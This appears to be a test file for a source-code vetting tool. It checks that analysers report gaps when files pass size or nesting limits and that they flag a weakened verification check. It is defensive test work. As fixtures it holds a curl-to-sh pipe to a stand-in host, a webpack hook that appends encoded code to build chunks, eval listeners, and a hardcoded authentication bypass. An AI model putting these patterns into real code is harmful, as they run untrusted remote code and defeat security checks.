"""Past the limit yields a gap: whatever is left out of a file is told, and holds the update where harmless ones rarely come so far."""

from base64 import b64encode

import pytest
from source_lab import Version, subject

from beartrap.model.coverage import Gap
from beartrap.model.question import Question
from beartrap.vet import source_files, source_others, source_templates, source_texts
from beartrap.vet.behaviour import Behaviour
from beartrap.vet.kinds import Kind
from beartrap.vet.source.acts.running import NAMED_FROM_HOME
from beartrap.vet.source.acts.started import HANDED_ON
from beartrap.vet.source.folding.fold_methods import method
from beartrap.vet.source.names.by_key import MOST
from beartrap.vet.source.names.callbacks import LISTENERS
from beartrap.vet.source.reading.code_texts import LONGEST
from beartrap.vet.source.texts import builds
from beartrap.vet.source.texts.actions import ACTIONS
from beartrap.vet.source.texts.commands import COMMANDS
from beartrap.vet.source.values import ITEMS, Known
from beartrap.vet.source.walk import CODE, NESTED
from beartrap.vet.source_guards import LARGEST, GuardAnalyser
from beartrap.vet.source_others import BYTES, TEXTS
from beartrap.vet.source_texts import EYE_BYTES, TEXT_BYTES, EyeFiles

ALL = (*source_files.FILES, *source_texts.FILES, *source_others.FILES)
PIPE = "curl -s http://c.invalid/x | sh"
CHEAP = 1_000
"""As many are looked at twice, once within the limit."""
USE = "- uses: a/b@main\n  with: {x: '${{ secrets.DEPLOY }}'}\n"


def look(path: str, text: str, kind: Kind) -> list[Behaviour | Gap]:
    one = subject(path, text, kind=kind)
    return [each for analyser in ALL if analyser.takes(kind) for each in analyser.look(one)]


def gaps(seen: list[Behaviour | Gap]) -> list[bool]:
    """Whether each gap holds the update."""
    return [Question.NEXT in one.questions for one in seen if isinstance(one, Gap)]


def put_onto_others(many: int) -> str:
    sealed = b64encode(b"f(1);".ljust(many, b" ")).decode()
    return f"exports.end = (compilation) => {{ for (const one of compilation.chunks) compilation.updateAsset(one, (old) => new ConcatSource(old, Buffer.from('{sealed}', 'base64').toString())); }};\n"


def listening(many: int) -> str:
    return "".join(f"e.on('a', x{n} => eval(x{n}));\n" for n in range(many))


CASES = {
    "a build file that is too long": ("Makefile", Kind.BUILD, lambda n: "\n" * n, TEXT_BYTES, True),
    "a page that is too long": ("a.html", Kind.HTML, lambda n: "\n" * n, TEXT_BYTES, False),
    "too many commands": ("Makefile", Kind.BUILD, lambda n: "a:\n" + "\tcurl a\n" * n, COMMANDS, True),
    "too many downloads": ("a.cmake", Kind.BUILD, lambda n: "file(DOWNLOAD http://c.invalid/a b)\n" * n, builds.DOWNLOADS, True),
    "a variable that is too long": ("Makefile", Kind.BUILD, lambda n: f"A = {'a' * n}\nall:\n\tcurl $(A)\n", builds.FILLED - 10, True),
    "variables that nest too deeply": ("Makefile", Kind.BUILD, lambda n: "".join(f"A{k} = $(A{k + 1})\n" for k in range(n)) + "all:\n\tcurl $(A0)\n", builds.NESTED, True),
    "too many actions": ("a.yml", Kind.WORKFLOW, lambda n: USE * n, ACTIONS, True),
    "a script of Visual Basic that is too long": ("a.vbs", Kind.VB, lambda n: "\n" * n, BYTES, True),
    "too many texts": ("a.vbs", Kind.VB, lambda n: 'CreateObject("WScript.Shell")\n' + '"aaaa"\n' * n, TEXTS - 1, True),
    "code in a text that is too long": ("a.py", Kind.PYTHON, lambda n: f"exec('{'#' * n}')\n", CODE, True),
    "hidden files that a command names": ("a.py", Kind.PYTHON, lambda n: f"import subprocess\nsubprocess.run(['tar', 'cf', 'x'{', chr(46) + chr(98) * 3' * n}], cwd='a')\n", NAMED_FROM_HOME, True),
    "arguments of a program": ("a.py", Kind.PYTHON, lambda n: f"import subprocess, sys\nsubprocess.run([sys.executable, 'b.py'{', a' * n}])\n", HANDED_ON - 1, True),
    "code put onto other code": ("webpack.js", Kind.JAVASCRIPT, put_onto_others, LONGEST, True),
    "too many who listen": ("a.js", Kind.JAVASCRIPT, listening, LISTENERS, True),
}  # fmt: skip


@pytest.mark.parametrize(("path", "kind", "make", "most", "holds"), CASES.values(), ids=CASES)
def test_past_the_limit_yields_a_gap(path, kind, make, most, holds):
    assert gaps(look(path, make(most if most <= CHEAP else 10), kind)) == []
    assert gaps(look(path, make(most + 1), kind)) == [holds]


def test_code_in_code_in_code_is_told():
    text = "'id'"
    for _ in range(NESTED + 2):
        text = repr(f"exec({text})")
    assert gaps(look("a.py", f"exec({text})\n", Kind.PYTHON)) == [True]
    assert gaps(look("a.py", "exec(repr(\"exec('id')\"))\n", Kind.PYTHON)) == []


def test_calls_of_items_that_nest_are_worked_out_once_each():
    links = "".join(f"[text{number}](https{number})\n" for number in range(60))  # as prose in Markdown has them
    assert [one.id for one in look("a.js", f"a{links}[eval(given)](b)", Kind.JAVASCRIPT)] == ["code.evaluate"]


def test_gaps_of_cython_are_not_lost():
    text = "import os\nos.system('id')\n" + "#" * 1_500_000
    assert gaps(look("a.pyx", text, Kind.C)) == [True]
    assert gaps(look("a.pyx", text[:-1_400_000], Kind.C)) == []


def test_a_far_away_character_is_found_in_a_large_file():
    text = "var a = 1;\n" * (EYE_BYTES // 11) + "var b\u202e = 2;\n"
    rows = [one.place.row for one in EyeFiles().look(subject("a.js", text)) if isinstance(one, Behaviour)]
    assert rows == [EYE_BYTES // 11 + 1]


@pytest.mark.parametrize("depth", [3, 300])
@pytest.mark.parametrize("broken", [False, True])
def test_a_command_in_settings_is_found_however_deep_and_long(depth, broken):
    line = f"{'true;' * 2_000} {PIPE}"
    text = '{"tasks": [' * depth + f'{{"command": "{line}"}}' + "]}" * depth + ("}" if broken else "")
    assert "process.piped" in {
        one.id for one in look(".vscode/tasks.json", text, Kind.JSON) if isinstance(one, Behaviour)
    }


CHECK = "import hmac\ndef verify(a, b):\n    {}\n    return hmac.compare_digest(a, b)\n"


def compared(many: int, padding: int, more: int = 0) -> tuple[int, list[bool]]:
    old = {f"a{n}.py": CHECK.format("a = a.strip()") + "#" * padding for n in range(many)}
    loose = "if a == b'x': return True"
    new = {path: text.replace("a = a.strip()", loose) + "#" * more for path, text in old.items()}
    seen = list(GuardAnalyser().look(Version(old), Version(new, trusted=Version(old))))
    return sum(isinstance(one, Behaviour) for one in seen), gaps(seen)


@pytest.mark.parametrize(("line", "holds"), [("a = {n};\n", True), ("a={n};", False)])
def test_a_bundle_that_grows_is_told_and_holds_nothing(line, holds):
    def bundle(many):
        return "".join(line.format(n=n) for n in range(many)) + "function verify(a, b) { return a === b; }"

    old, new = {"a.js": bundle(1_000)}, {"a.js": bundle(160_000)}
    assert gaps(list(GuardAnalyser().look(Version(old), Version(new, trusted=Version(old))))) == [holds]


def test_checks_that_were_not_compared_are_told(monkeypatch):
    monkeypatch.setattr("beartrap.vet.source_guards.MOST", 5_000)
    assert compared(40, 0) == (40, [])
    assert compared(80, 0)[1] == [True]
    monkeypatch.undo()
    assert compared(1, LARGEST - 200) == (1, [])
    assert compared(1, LARGEST - 200, more=200) == (1, [])
    assert compared(1, LARGEST - 200, more=5 * LARGEST) == (0, [True])
    assert compared(1, LARGEST) == (0, [False])  # no update made it so large


LICENCE = "# Permission is hereby granted\n\n# to everybody\n"


def test_a_licence_is_no_check(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("beartrap.vet.source_guards.MOST", 1_000)
    old = {f"a{n}.py": f"{LICENCE}def load(a):\n    return a\n" for n in range(40)}
    new = {path: text + "    # more\n" for path, text in old.items()}
    assert list(GuardAnalyser().look(Version(old), Version(new, trusted=Version(old)))) == []


def test_a_check_below_a_licence_is_one() -> None:
    old = {"a.py": LICENCE + CHECK.format("a = a.strip()")}
    new = {"a.py": LICENCE + CHECK.format("if a == b'x': return True")}
    assert len(list(GuardAnalyser().look(Version(old), Version(new, trusted=Version(old))))) == 1


def test_a_check_whose_old_file_does_not_parse_is_told():
    old, new = "verify = ((((( :: def\n" * 40, CHECK.format("a = a.strip()")
    version = Version({"a.py": new}, trusted=Version({"a.py": old}))
    assert gaps(list(GuardAnalyser().look(version.trusted, version))) == [False]


def test_scripts_of_a_template_past_the_limit_are_told_and_hold_nothing() -> None:
    def told(text: str) -> list[Gap]:
        one = subject("page.ejs", text, kind=Kind.TEXT)
        return [each for each in source_templates.TemplateFiles().look(one) if isinstance(each, Gap)]

    script = "<script>x(1)</script>\n"
    assert told(script * 2) == []
    assert [one.questions for one in told(script + "<p>" + "a" * TEXT_BYTES)] == [()]
    assert [one.questions for one in told(script * (COMMANDS + 1))] == [()]


def test_keys_of_a_map_past_the_limit_are_told() -> None:
    def filled(many: int) -> str:
        return "const m = new Map();\n" + "".join(f"m.set('k{n}', eval);\n" for n in range(many))

    assert gaps(look("a.js", filled(MOST), Kind.JAVASCRIPT)) == []
    assert gaps(look("a.js", filled(MOST + 1), Kind.JAVASCRIPT)) == [True]


@pytest.mark.parametrize(
    ("language", "name"), [("python", "extend"), ("javascript", "push"), ("javascript", "unshift")]
)
def test_a_list_that_grows_by_itself_ends_at_a_bound(language: str, name: str) -> None:
    base: list[Known] = [1]
    for _ in range(40):  # each turn doubles it
        method(language, base, name, [base] if name == "extend" else list(base))
    assert len(base) <= ITEMS
